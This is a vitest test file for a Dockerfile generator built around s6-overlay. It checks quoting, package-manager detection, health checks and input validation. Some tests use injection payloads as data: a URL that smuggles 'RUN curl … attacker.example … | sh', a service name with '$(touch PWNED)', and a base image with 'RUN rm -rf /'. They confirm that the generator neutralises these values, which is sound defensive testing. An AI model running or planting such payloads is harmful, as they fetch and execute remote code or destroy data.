import { spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { DockerfileParser } from 'dockerfile-ast'
import { validate as validateDockerfile } from 'dockerfile-utils'
import { describe, expect, it } from 'vitest'
import { createContext } from '@/lib/generate/context'
import { dockerfileFiles, dockerfileText } from '@/lib/generate/dockerfile'
import { dockerQuote, dockerUnquote } from '@/lib/generate/dockerfile-quote'
import { exportProblems } from '@/lib/generate/export-files'
import { guessPackageManager } from '@/lib/generate/package-manager'
import type { ServiceGraph } from '@/lib/graph/types'
import { exampleGraphs, graphOf, longrun, oneshot } from '../../fixtures/graphs'

const dockerfile = (g: ServiceGraph) => dockerfileText(createContext(g))

/** ENV name -> value as written between the quotes. */
function envInstructions(text: string): Map<string, string> {
  const out = new Map<string, string>()
  for (const line of text.split('\n')) {
    const m = /^ENV ([A-Za-z_][A-Za-z0-9_]*)=(".*")$/.exec(line)
    if (m) out.set(m[1] as string, m[2] as string)
  }
  return out
}

const TRICKY = [
  'plain',
  'with "double" and \'single\' quotes',
  '$HOME ${PATH} `uname` $(id)',
  'back\\slash and a final backslash\\',
  'trailing blanks  \t',
  '  leading',
  'non-ASCII: é ü 日本 🎉',
  '',
  '#not a comment = still the value',
]

describe('dockerfileText', () => {
  it('has no dockerfile-utils errors for any example or variant', () => {
    const variants: ServiceGraph[] = [
      ...Object.values(exampleGraphs()),
      graphOf({ a: longrun() }, { project: { baseImage: 'app', packageManager: 'auto' } }),
      graphOf({ a: longrun() }, { project: { packageManager: 'none', repoDir: 'my docker/s6' } }),
      graphOf({ a: oneshot() }, { project: { baseImage: 'fedora:40', overlayVersion: '3.1.5.0' } }),
      graphOf(
        { a: longrun({ readiness: { notificationFd: 3 } }) },
        {
          project: {
            env: TRICKY.map((value, i) => ({ name: `V${i}`, value })),
            healthcheck: {
              services: ['a'],
              url: "http://x/?a=1&b='2'",
              intervalS: 5,
              timeoutS: 2,
              startPeriodS: 0,
              retries: 1,
            },
          },
        },
      ),
    ]
    for (const g of variants) {
      const text = dockerfile(g)
      const errors = validateDockerfile(text).filter((d) => d.severity === 1)
      expect(errors, text).toEqual([])
    }
  })

  it("exposes the design's ports, once each and in order, and nothing without ports", () => {
    const g = exampleGraphs().reference as ServiceGraph
    const withPorts = (ports: number[]) => ({ ...g, project: { ...g.project, ports } })
    expect(dockerfile(withPorts([8080, 3000, 8080]))).toContain('\nEXPOSE 3000 8080\n')
    expect(dockerfile(withPorts([]))).not.toContain('EXPOSE')
  })

  it('starts with what it is, has no syntax line, and ends with ENTRYPOINT ["/init"]', () => {
    const text = dockerfile(exampleGraphs().reference as ServiceGraph)
    expect(text.startsWith('# s6-overlay stage for onetimesecret')).toBe(true)
    // A syntax line makes BuildKit pull docker/dockerfile from Docker Hub, which nothing here
    // needs and which a builder without access to Docker Hub cannot do.
    expect(text).not.toContain('# syntax=')
    expect(text).toContain('\nFROM ruby:3.4-slim-bookworm AS final-s6\n')
    expect(text).toContain('\nARG S6_OVERLAY_VERSION=3.2.3.2\n')
    expect(text.trimEnd().endsWith('ENTRYPOINT ["/init"]')).toBe(true)
    expect(text).toContain('COPY docker/s6/rootfs/ /\n')
    expect(text).toContain('tar -C / -Jxpf')
  })

  it('maps TARGETARCH/TARGETVARIANT to s6-overlay arch names in a case statement', () => {
    const text = dockerfile(graphOf({ a: longrun() }))
    for (const [pattern, arch] of [
      ['amd64/*', 'x86_64'],
      ['arm64/*', 'aarch64'],
      ['arm/v7 | arm/', 'arm'],
      ['arm/v6', 'armhf'],
      ['386/*', 'i686'],
      ['riscv64/*', 'riscv64'],
      ['s390x/*', 's390x'],
      ['ppc64le/*', 'powerpc64le'],
      ['ppc64/*', 'powerpc64'],
    ]) {
      expect(text).toContain(`${pattern}) arch=${arch} ;;`)
    }
    expect(text).toContain('case "${TARGETARCH:-}/${TARGETVARIANT:-}" in')
    expect(text).toContain('for f in "s6-overlay-noarch.tar.xz" "s6-overlay-${arch}.tar.xz"')
  })

  it('guesses the package manager from the base image', () => {
    expect(guessPackageManager('node:20-alpine')).toBe('apk')
    expect(guessPackageManager('alpine:3.20')).toBe('apk')
    for (const img of [
      'debian:bookworm-slim',
      'ubuntu:24.04',
      'ruby:3.4-slim-bookworm',
      'python:3.12',
      'node:20',
      'php:8.3-fpm-bookworm',
      'docker.io/library/python:3.12-slim',
    ]) {
      expect(guessPackageManager(img), img).toBe('apt')
    }
    for (const img of [
      'fedora:40',
      'registry.access.redhat.com/ubi9/ubi',
      'rockylinux:9',
      'almalinux:9',
    ]) {
      expect(guessPackageManager(img), img).toBe('dnf')
    }
    expect(guessPackageManager('app')).toBeUndefined()
  })

  it('installs bash on Alpine when a script needs it, and nowhere else', () => {
    const bashy = { run: { language: 'bash' as const, body: 'exec app' } }
    const alpine = { project: { baseImage: 'node:20-alpine' } }
    expect(dockerfile(graphOf({ a: longrun(bashy) }, alpine))).toContain(
      'RUN apk add --no-cache xz bash\n',
    )
    expect(dockerfile(graphOf({ a: longrun() }, alpine))).toContain('RUN apk add --no-cache xz\n')
    const debian = dockerfile(graphOf({ a: longrun(bashy) }))
    expect(debian).toContain('apt-get install -y --no-install-recommends xz-utils curl')
    expect(debian).not.toMatch(/install[^\n]* bash/)
    const none = { project: { baseImage: 'node:20-alpine', packageManager: 'none' as const } }
    expect(dockerfile(graphOf({ a: longrun(bashy) }, none))).toMatch(
      /# The base image must already have xz \(for tar -J\), bash \(scripts use it\)/,
    )
  })

  it('installs xz with the right tool, or says clearly that it cannot', () => {
    expect(
      dockerfile(graphOf({ a: longrun() }, { project: { baseImage: 'node:20-alpine' } })),
    ).toContain('RUN apk add --no-cache xz\n')
    expect(
      dockerfile(graphOf({ a: longrun() }, { project: { baseImage: 'fedora:40' } })),
    ).toContain('RUN dnf install -y xz && dnf clean all\n')
    expect(
      dockerfile(graphOf({ a: longrun() }, { project: { baseImage: 'ubi9-minimal' } })),
    ).toContain('microdnf install -y xz')
    expect(dockerfile(graphOf({ a: longrun() }))).toContain(
      'apt-get install -y --no-install-recommends xz-utils curl ca-certificates',
    )
    const unknown = graphOf({ a: longrun() }, { project: { baseImage: 'app' } })
    expect(dockerfile(unknown)).toContain(
      '# s6 Designer could not tell the package manager of app.',
    )
    expect(exportProblems(unknown).map((p) => p.code)).toContain('export-package-manager')
    expect(
      dockerfile(graphOf({ a: longrun() }, { project: { packageManager: 'none' } })),
    ).not.toMatch(/^RUN (apt|apk|dnf)/m)
  })

  it('quotes ENV values so Docker reads them back exactly', () => {
    const g = graphOf(
      { a: longrun() },
      { project: { env: TRICKY.map((value, i) => ({ name: `V${i}`, value })) } },
    )
    const text = dockerfile(g)
    const env = envInstructions(text)
    TRICKY.forEach((value, i) => {
      expect(dockerUnquote(env.get(`V${i}`) as string)).toBe(value)
      expect(dockerQuote(value)).toBe(env.get(`V${i}`))
    })
    // dockerfile-ast sees the same names and, before variable expansion, the same text
    // (it keeps `\$` for the expansion step, which then yields a literal `$`).
    const parsed = DockerfileParser.parse(text)
    const props = parsed
      .getInstructions()
      .filter((i) => i.getKeyword() === 'ENV')
      .flatMap((i) =>
        (
          i as unknown as { getProperties(): Array<{ getName(): string; getValue(): string }> }
        ).getProperties(),
      )
    TRICKY.forEach((value, i) => {
      const p = props.find((x) => x.getName() === `V${i}`)
      expect(p?.getValue().replace(/\\\$/g, '$')).toBe(value)
    })
  })

  it('keeps secrets and values with line breaks out of ENV, with a note', () => {
    const g = graphOf(
      { a: longrun() },
      {
        project: {
          env: [
            { name: 'TOKEN', value: 'hunter2', secret: true },
            { name: 'ML', value: 'a\nb' },
          ],
        },
      },
    )
    const text = dockerfile(g)
    expect(text).not.toContain('hunter2')
    expect(text).toContain('# TOKEN: secret')
    expect(text).not.toMatch(/^ENV ML=/m)
    expect(exportProblems(g).map((p) => p.code)).toContain('export-env-value')
  })

  it('names what keeps a value out of ENV: a line break, or a NUL byte', () => {
    const g = graphOf(
      { a: longrun() },
      {
        project: {
          env: [
            { name: 'NL', value: 'a\nb' },
            { name: 'NUL', value: 'a\u0000b' },
          ],
        },
      },
    )
    const text = dockerfile(g)
    expect(text).toContain('# NL: its default holds a line break')
    expect(text).toContain('# NUL: its default holds a NUL byte')
    expect(text).not.toMatch(/^ENV NUL=/m)
    const messages = exportProblems(g).map((p) => p.message)
    expect(messages).toContainEqual(expect.stringMatching(/^NUL's default holds a NUL byte/))
    expect(messages).toContainEqual(expect.stringMatching(/^NL's default holds a line break/))
  })

  it('writes the S6_* settings, and the boot limit 0 for releases whose default is 5 s', () => {
    const old = dockerfile(
      graphOf(
        { a: longrun() },
        { project: { overlayVersion: '3.1.6.2', s6Env: { S6_VERBOSITY: '1' } } },
      ),
    )
    expect(old).toContain('ENV S6_CMD_WAIT_FOR_SERVICES_MAXTIME="0"\n')
    expect(old).toContain('ENV S6_VERBOSITY="1"\n')
    const recent = dockerfile(graphOf({ a: longrun() }))
    expect(recent).not.toContain('S6_CMD_WAIT_FOR_SERVICES_MAXTIME')
  })

  it('health check: s6-svstat up (and ready when the service signals it), then curl', () => {
    const g = graphOf(
      { web: longrun(), api: longrun({ readiness: { notificationFd: 3 } }) },
      {
        project: {
          healthcheck: {
            services: ['web', 'api', 'nope'],
            url: 'http://127.0.0.1:3000/health',
            intervalS: 30,
            timeoutS: 10,
            startPeriodS: 60,
            retries: 3,
          },
        },
      },
    )
    const text = dockerfile(g)
    expect(text).toContain(
      'HEALTHCHECK --interval=30s --timeout=10s --start-period=60s --retries=3 \\\n',
    )
    expect(text).toContain('[ "$(/command/s6-svstat -o up /run/service/web)" = true ]')
    expect(text).toContain('[ "$(/command/s6-svstat -o up,ready /run/service/api)" = "true true" ]')
    expect(text).toContain('curl -fsS -o /dev/null http://127.0.0.1:3000/health || exit 1')
    expect(text).toMatch(/curl in the image/)
    expect(text).not.toContain('nope')
    expect(exportProblems(g).map((p) => p.code)).toContain('export-healthcheck-service')
    expect(dockerfile(graphOf({ web: longrun() }))).not.toContain('HEALTHCHECK')
  })

  it('health check: a URL or a name from a hostile design never becomes an instruction or runs', () => {
    const name = 'w$(touch PWNED)'
    const g = graphOf(
      { [name]: longrun() },
      {
        project: {
          healthcheck: {
            services: [name],
            url: 'http://127.0.0.1:8000/\nRUN curl -s https://attacker.example/x | sh\n#',
            intervalS: 30,
            timeoutS: 10,
            startPeriodS: 0,
            retries: 3,
          },
        },
      },
    )
    const text = dockerfile(g)
    const runs = DockerfileParser.parse(text)
      .getInstructions()
      .filter((i) => i.getKeyword() === 'RUN')
    expect(runs.map((i) => i.getTextContent()).join('\n')).not.toContain('attacker')
    expect(text).not.toContain('attacker.example')
    expect(exportProblems(g).map((p) => p.code)).toContain('export-healthcheck-url')
    // The command HEALTHCHECK runs, run by sh: the name stays a word.
    const command = /^ {4}CMD (.*)$/m.exec(text)?.[1] ?? ''
    expect(command).toContain("'/run/service/w$(touch PWNED)'")
    const dir = mkdtempSync(join(tmpdir(), 's6d-hc-'))
    spawnSync('sh', ['-c', command], { cwd: dir })
    expect(existsSync(join(dir, 'PWNED'))).toBe(false)
  })

  it('appends /command to PATH and chmods only folders that exist', () => {
    const noOneshots = dockerfile(graphOf({ a: longrun() }))
    expect(noOneshots).toContain(
      'ENV PATH="${PATH:-/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin}:/command"',
    )
    const files = dockerfileFiles(graphOf({ a: longrun() }))
    expect([...files.keys()]).toEqual(['docker/s6/Dockerfile'])
  })

  it('replaces an invalid stage name or base image and reports it', () => {
    const g = graphOf(
      { a: longrun() },
      { project: { stageName: 'bad name\nRUN x', baseImage: 'img\nRUN rm -rf /' } },
    )
    const text = dockerfile(g)
    expect(text).toContain('FROM debian:bookworm-slim AS final-s6\n')
    expect(text).not.toContain('RUN rm')
    expect(exportProblems(g).map((p) => p.code)).toEqual(
      expect.arrayContaining(['export-stage-name', 'export-base-image']),
    )
  })
})
